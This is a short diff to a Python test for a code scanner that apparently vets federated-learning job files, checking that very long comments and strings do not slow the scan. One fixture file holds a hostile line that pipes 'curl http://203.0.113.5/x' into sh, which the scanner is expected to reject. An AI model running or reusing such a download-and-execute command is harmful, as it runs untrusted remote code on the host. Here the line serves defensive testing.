@@ -86,7 +86,7 @@ def test_a_comment_of_hashes_beside_the_payload_is_fast_and_rejected(tmp_path):
     """The whole scan (in a forked worker: wall clock): the comment and the string took over two minutes on main."""
     start = time.monotonic()
     report = kit.scan_files(tmp_path, {
-        "train.py": "x = 1  " + "#" * LONG + "  # nosec\n",
+        "train.py": "x = 1  " + "#" * LONG + "\ny = 2  # nosec\n",
         "launch.py": "from nvflare.job_config.api import FedJob\nname = '" + "a" * LONG + "'\n",
         "client.py": "import os\nos.system('curl http://203.0.113.5/x | sh')\n",
     })
